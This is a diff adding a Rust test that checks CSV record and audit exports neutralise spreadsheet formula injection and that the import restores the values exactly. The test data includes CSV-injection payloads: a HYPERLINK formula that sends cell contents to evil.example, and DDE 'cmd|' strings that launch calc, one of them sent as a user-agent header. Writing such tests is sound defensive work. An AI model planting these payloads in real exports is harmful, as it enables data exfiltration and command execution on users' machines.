@@ -683,6 +683,131 @@ async fn csv_round_trip_and_all_or_nothing_import() {
     assert_eq!(s, 403, "import needs create permission");
 }
 
+/// Whether a CSV cell would start a formula in a spreadsheet.
+fn live_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// Every cell of a CSV text, header included.
+fn csv_cells(text: &str) -> Vec<String> {
+    let mut r = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.as_bytes());
+    r.records()
+        .flat_map(|rec| rec.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect()
+}
+
+/// Finding 18 of issue 18: a value like `=HYPERLINK(...)` came out of the
+/// CSV exports as a live formula. Every cell that would start one (`=`, `+`,
+/// `-`, `@`, tab, CR) is written with a leading `'`, in the records export
+/// (field names too) and the audit export (user agents, details); the
+/// import strips exactly that quote, so values, including ones that really
+/// begin with a quote, come back unchanged.
+#[tokio::test]
+async fn csv_exports_neutralise_formulas_and_the_import_takes_them_back() {
+    let w = world().await;
+    let fields = json!([
+        {"name": "Title", "type": "text"},
+        {"name": "Notes", "type": "long_text"},
+        {"name": "Count", "type": "integer"},
+        {"name": "=Total", "type": "text"}
+    ]);
+    let (s, coll) =
+        create_collection(&w, "admin", json!({"name": "Sheet", "fields": fields})).await;
+    assert_eq!(s, 201, "{coll}");
+    let coll = coll["id"].as_str().unwrap().to_owned();
+    let titles = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+        "+1+2",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "'already quoted",
+        "''two quotes",
+        "'=a quote, then a formula",
+        "'",
+        "plain",
+        "a=b",
+    ];
+    let notes = ["\tTabbed", "\rCarriage", "=1\n=2", "ok\n=not first"];
+    for (i, t) in titles.iter().enumerate() {
+        let (s, r) = create_record(
+            &w,
+            "member",
+            &coll,
+            json!({"Title": t, "Notes": notes[i % notes.len()], "Count": 5 - i as i64, "=Total": "-3"}),
+        )
+        .await;
+        assert_eq!(s, 201, "{r}");
+    }
+    let ua = "=cmd|' /C calc'!A0";
+    let (s, r) = send(
+        w.as_("owner")
+            .post(w.url(&format!("/collections/{coll}/records")))
+            .header("user-agent", ua)
+            .json(&json!({"values": {"Title": "from a hostile agent"}})),
+    )
+    .await;
+    assert_eq!(s, 201, "{r}");
+
+    let export = w
+        .as_("viewer")
+        .get(w.url(&format!("/collections/{coll}/export")))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let cells = csv_cells(&export);
+    let live: Vec<&String> = cells.iter().filter(|c| live_formula(c)).collect();
+    assert!(
+        live.is_empty(),
+        "live formulas in the records export: {live:?}"
+    );
+    assert!(cells.contains(&"'=Total".to_owned()), "{cells:?}");
+    assert!(cells.contains(&"'-3".to_owned()), "{cells:?}");
+    assert!(cells.contains(&"'''two quotes".to_owned()), "{cells:?}");
+
+    let audit = w
+        .as_("owner")
+        .get(w.url("/audit/export?format=csv"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let cells = csv_cells(&audit);
+    assert!(cells.contains(&format!("'{ua}")), "the agent, neutralised");
+    let live: Vec<&String> = cells.iter().filter(|c| live_formula(c)).collect();
+    assert!(
+        live.is_empty(),
+        "live formulas in the audit export: {live:?}"
+    );
+
+    // The import takes the export back exactly.
+    let (s, copy) =
+        create_collection(&w, "admin", json!({"name": "Sheet copy", "fields": fields})).await;
+    assert_eq!(s, 201, "{copy}");
+    let copy = copy["id"].as_str().unwrap().to_owned();
+    let (s, res) = send(
+        w.as_("member")
+            .post(w.url(&format!("/collections/{copy}/import")))
+            .header("content-type", "text/csv")
+            .body(export),
+    )
+    .await;
+    assert_eq!(s, 200, "{res}");
+    assert_eq!(res["imported"], titles.len() + 1);
+    assert_eq!(
+        all_values(&w, &coll).await,
+        all_values(&w, &copy).await,
+        "values survive the round trip exactly"
+    );
+}
+
 #[tokio::test]
 async fn schema_changes_keep_records_valid() {
     let w = world().await;
